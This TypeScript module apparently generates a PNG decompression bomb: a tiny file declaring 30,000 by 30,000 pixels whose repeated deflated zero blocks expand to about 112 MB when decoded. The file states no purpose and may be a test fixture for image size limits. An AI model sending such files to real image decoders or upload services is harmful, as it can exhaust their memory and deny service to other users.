import { constants, crc32, deflateRawSync } from 'node:zlib';

/** A thousandth of the pixels: 30,000 rows of 3,751 bytes, 8 pixels to each but the first. */
const PART = 30 * 3751;

/** A PNG of 30,000 by 30,000 pixels that weighs next to nothing until somebody unpacks it. */
export function pictureBomb(): Buffer {
  const chunk = (name: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(name), data]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(30_000, 0);
  header.writeUInt32BE(30_000, 4);
  // One bit a pixel, grey.
  header.writeUInt8(1, 8);
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    chunk('IDAT', nothing()),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A thousand times the same part, packed once: to pack all of it takes half a second. */
function nothing(): Buffer {
  const part = deflateRawSync(Buffer.alloc(PART), { finishFlush: constants.Z_FULL_FLUSH });
  // Adler's sum of bytes that are all 0: 1, and how many they are.
  const sum = Buffer.alloc(4);
  sum.writeUInt16BE((1_000 * PART) % 65_521, 0);
  sum.writeUInt16BE(1, 2);
  const [head, lastBlock] = [Buffer.from([0x78, 0x9c]), Buffer.from([0x03, 0x00])];
  return Buffer.concat([head, ...Array.from({ length: 1_000 }, () => part), lastBlock, sum]);
}
